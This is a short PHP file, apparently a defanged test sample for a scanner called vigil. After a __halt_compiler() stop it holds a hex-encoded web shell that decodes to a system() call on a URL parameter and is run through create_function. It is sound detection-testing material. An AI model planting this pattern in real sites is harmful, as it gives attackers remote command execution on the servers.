<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$h = hex2bin('73797374656d28245f4745545b2763275d293b');
$f = create_function('', $h);
$f();
